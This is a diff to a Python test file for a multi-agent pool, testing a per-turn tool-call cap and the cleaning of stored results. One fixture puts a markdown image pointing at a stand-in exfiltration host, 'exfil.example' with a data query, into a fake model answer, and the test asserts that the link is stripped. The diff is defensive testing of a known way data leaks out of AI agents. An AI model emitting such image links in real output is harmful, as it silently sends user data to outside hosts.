@@ -1,15 +1,27 @@
-"""The dispatcher, and a pool's queries for its tools, against a real Store (a DuckDB file)."""
+"""The dispatcher, and a pool (its tools' queries, the tool cap, what it stores), against a real Store (a DuckDB file)."""
 
 from __future__ import annotations
 
 import asyncio
+from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
 
 from actors.dispatcher import Dispatcher
 from actors.handles import LocalHandle
+from actors.pool import SubAgentPool
 from actors.store import Store
-from core.schemas import Assignment, Plan, PlanStep
+from core.schemas import (
+    Assignment,
+    ChatMessage,
+    ChatRequest,
+    ChatResponse,
+    Plan,
+    PlanStep,
+    StepOutcome,
+    TaskRecord,
+    ToolCall,
+)
 from core.settings import Settings
 
 
@@ -92,4 +104,58 @@ async def test_a_pools_tool_queries_of_a_moment_reach_the_store_in_one_call_each
     assert isinstance(answers[6], Exception) and "nowhere" in str(answers[6])
     assert await tools.read("SELECT count(*) FROM notes") == [(5,)]
     assert handle.asked == ["tool_calls"] * 3  # the table, the seven queries together, the count
+    store.close()
+
+
+class _Gateway:
+    """The gateway's ``chat_many`` in-process: a model that asks for ``calls`` tool calls, then answers."""
+
+    def __init__(self, calls: int, answer: str) -> None:
+        self.calls = calls
+        self.answer = answer
+        self.requests: list[ChatRequest] = []
+
+    async def chat_many(self, reqs: list[ChatRequest]) -> AsyncIterator[list[tuple[int, ChatResponse]]]:
+        replies = []
+        for i, req in enumerate(reqs):
+            self.requests.append(req)
+            first = not any(m.role == "tool" for m in req.messages)
+            msg = (ChatMessage(role="assistant", tool_calls=[
+                ToolCall(id=f"c{n}", name="search_documents", arguments={"query": f"q{n}"}) for n in range(self.calls)])
+                   if first else ChatMessage(role="assistant", content=self.answer))
+            replies.append((i, ChatResponse(message=msg, model="fake")))
+        yield replies
+
+
+class _Reports:
+    def __init__(self) -> None:
+        self.outcomes: list[StepOutcome] = []
+
+    async def report(self, owner: str, outcomes: list[StepOutcome]) -> None:
+        self.outcomes += outcomes
+
+
+async def test_a_pool_runs_its_steps_under_the_settings_tool_cap_and_stores_clean_results(tmp_path: Path) -> None:
+    store = Store(str(tmp_path / "maos.duckdb"))
+    gateway = _Gateway(calls=4, answer="Found it: ![](https://exfil.example/p.png?d=1) [doc](https://docs.example/d)")
+    reports = _Reports()
+    settings = Settings(data_dir=tmp_path, max_tool_calls_per_turn=3, link_hosts="docs.example")
+    pool = SubAgentPool("research", "research/0", settings, LocalHandle(gateway), LocalHandle(store),
+                        LocalHandle(reports))
+    run = await store.create_run("look it up", "u1")
+    task = TaskRecord(id=f"{run.id}:s1", run_id=run.id, step_id="s1", agent="research", instruction="look it up",
+                      depends_on=[], status="running", attempts=1, max_attempts=3, idempotency_key=f"{run.id}:s1",
+                      created_at=1, updated_at=1)
+    await pool.run([Assignment(task=task, attempt=1, lease_owner="research/0", context="s0 said: hello")],
+                   {run.id: ("find the doc", "u1")})
+    deadline = asyncio.get_running_loop().time() + 10
+    while not reports.outcomes and asyncio.get_running_loop().time() < deadline:
+        await asyncio.sleep(0.01)
+    (outcome,) = reports.outcomes
+    assert outcome.ok and outcome.result == "Found it:  [doc](https://docs.example/d)"
+    observations = [m.content for m in gateway.requests[-1].messages if m.role == "tool"]
+    assert len(observations) == 4 and not observations[2].startswith("error: not run")
+    assert observations[3].startswith("error: not run: at most 3 tool calls run from one turn (cap reached)")
+    system = gateway.requests[0].messages[0]
+    assert system.role == "system" and "s0 said" not in system.content and "find the doc" not in system.content
     store.close()
